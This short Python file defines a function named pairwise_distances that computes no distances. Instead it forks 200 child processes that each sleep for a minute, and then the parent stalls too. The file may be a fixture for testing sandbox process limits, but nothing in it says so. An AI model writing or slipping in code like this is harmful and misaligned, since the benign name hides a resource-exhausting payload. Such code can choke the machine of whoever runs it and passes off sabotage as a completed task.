import os
import time


def pairwise_distances(x, y):
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
